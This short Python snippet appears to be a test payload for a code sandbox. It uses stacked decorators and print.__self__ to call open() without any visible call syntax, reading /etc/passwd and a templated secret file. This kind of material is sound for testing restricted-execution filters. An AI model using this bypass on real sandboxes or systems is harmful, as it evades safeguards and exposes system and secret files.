# Decorators call without a call in the text.
# effect: secret
@print
@(lambda path: print.__self__.open(path.__name__.replace("_", "/")).read())
class etc_passwd:
    pass
@print
@(lambda _: print.__self__.open("@FILE@").read())
def anything():
    pass
